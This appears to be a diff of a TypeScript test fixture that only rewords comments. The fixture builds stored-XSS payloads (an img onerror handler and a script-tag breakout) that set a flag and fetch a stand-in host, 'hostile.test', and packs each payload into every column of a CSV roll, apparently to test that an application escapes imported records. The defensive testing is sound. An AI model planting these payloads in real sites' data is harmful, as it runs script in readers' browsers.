@@ -1,14 +1,14 @@
-/** What payloads call and ask for when a browser runs them; nobody answers there. */
+/** Payloads call and request this host when a browser runs them; nobody answers there. */
 export const hostileHost = 'hostile.test';
 
 const hit = `window.__hit=1;fetch('https://${hostileHost}/')`;
 
-/** One word without an end, which cannot be compressed much either. */
+/** A very long word that hardly compresses. */
 const endless = Array.from({ length: 1_250 }, (_, at) =>
   ((at * 2_654_435_761) % 4_294_967_296).toString(16).padStart(8, '0'),
 ).join('');
 
-/** What somebody might write into a public record to be run by whoever reads it. */
+/** Texts that somebody might put into a public record so that readers' browsers run them. */
 export const payloads: readonly string[] = [
   `<img src=x onerror="${hit}">`,
   `"><script>${hit}</script>`,
@@ -67,7 +67,7 @@ const columns = [
   'Url',
 ];
 
-/** A parcel for each payload, which stands in all of its texts. */
+/** A parcel for each payload, which has it in all of its texts. */
 export const hostileRoll: readonly string[] = [columns, ...payloads.map(row)].map((cells) =>
   cells.map(cell).join(','),
 );
@@ -133,7 +133,7 @@ function row(payload: string, at: number): readonly string[] {
   ];
 }
 
-/** Quoted as RFC 4180 has it. */
+/** Quotes a cell by RFC 4180. */
 function cell(text: string): string {
   return `"${text.replaceAll('"', '""')}"`;
 }
